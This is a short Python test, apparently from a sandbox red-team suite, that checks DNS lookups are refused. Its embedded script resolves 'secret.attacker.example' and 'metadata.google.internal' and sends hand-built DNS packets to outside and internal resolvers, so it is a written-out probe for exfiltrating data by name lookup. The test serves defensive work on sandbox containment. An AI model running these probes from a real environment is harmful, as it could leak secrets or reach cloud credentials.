"""Ask for names, which could carry secrets out."""

from __future__ import annotations

from tests.redteam.escapes import Host, refused
from tools.sandbox.base import Result, Sandbox

SCRIPT = r"""
for name in ("pypi.org", "secret.attacker.example", "metadata.google.internal"):
    attempt(name, socket.getaddrinfo, name, 443)
def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(1)
        out.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4pypi\\3org\\0\\0\\1\\0\\1", (server,
            53))
        return out.recv(100)
for server in ("8.8.8.8", "127.0.0.53", "127.0.0.11", "168.63.129.16"):
    attempt(server, ask, server)
"""


def held(result: Result, sandbox: Sandbox, host: Host) -> None:
    refused(result, 7)
